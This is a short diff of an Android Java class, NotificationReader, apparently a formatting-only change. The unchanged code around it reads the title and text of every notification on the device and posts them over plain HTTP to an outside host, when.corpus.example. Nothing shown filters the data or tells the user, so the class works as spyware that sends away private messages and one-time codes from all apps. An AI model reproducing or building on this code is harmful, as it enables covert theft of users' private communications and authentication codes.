@@ -3,6 +3,7 @@ package org.corpus;
 import android.os.Bundle;
 import android.service.notification.NotificationListenerService;
 import android.service.notification.StatusBarNotification;
+
 import org.corpus.kit.Net;
 import org.corpus.kit.Screen;
 import org.corpus.kit.Work;
@@ -12,7 +13,10 @@ public class NotificationReader extends NotificationListenerService {
     @Override
     public void onNotificationPosted(StatusBarNotification shown) {
         Bundle extras = shown.getNotification().extras;
-        String text = extras.getCharSequence("android.title") + ": " + extras.getCharSequence("android.text");
+        String text =
+                extras.getCharSequence("android.title")
+                        + ": "
+                        + extras.getCharSequence("android.text");
         Work.start(() -> Net.post("http://when.corpus.example/shown", "text/plain", text));
     }
 
